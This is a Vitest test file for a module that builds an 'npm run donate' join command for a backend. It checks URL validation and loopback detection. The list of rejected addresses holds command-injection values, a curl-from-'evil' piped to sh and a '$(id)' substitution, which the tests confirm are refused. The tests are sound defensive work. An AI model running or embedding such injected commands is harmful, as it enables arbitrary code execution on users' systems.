import { expect, it } from "vitest";
import { isJoinAddress, isLoopback, joinCommand } from "./join-command.ts";

const code = "GLN-7K2M-9QXD-4WHT";
const pin = `sha256:${"ab".repeat(32)}`;

it("names the backend, and how to trust it", () => {
  expect(joinCommand({ code, url: "https://office:3210", pin })).toBe(
    `GLEANER_CODE=${code} npm run donate -- --backend https://office:3210 --pin ${pin}`,
  );
  expect(joinCommand({ code, url: "https://api.gleaner.example.org", pin: null })).toBe(
    `GLEANER_CODE=${code} npm run donate -- --backend https://api.gleaner.example.org`,
  );
  expect(joinCommand({ code, url: "http://office:3210", pin: null })).toBe(
    `GLEANER_CODE=${code} npm run donate -- --backend http://office:3210 --insecure-http`,
  );
});

it("puts only plain addresses into a command", () => {
  const plain = [
    "https://office:3210",
    "http://10.0.0.7:3210",
    "https://[fd00::7]:3210",
    "https://a.example.org",
  ];
  expect(plain.filter(isJoinAddress)).toEqual(plain);
  const wrong = [
    "https://a.org/;curl${IFS}evil|sh;",
    "https://$(id)",
    "https://a.org/x",
    "ftp://a.org",
    "https://a b",
  ];
  expect(wrong.filter(isJoinAddress)).toEqual([]);
  expect(() => joinCommand({ code, url: wrong[0]!, pin: null })).toThrow("This address cannot be");
});

it("knows the addresses that other computers cannot reach", () => {
  const here = ["http://localhost:3210", "http://127.0.0.1:3210", "https://[::1]:3210"];
  expect(here.filter(isLoopback)).toEqual(here);
  expect(["https://office:3210", "http://10.0.0.7:3210"].some(isLoopback)).toBe(false);
});
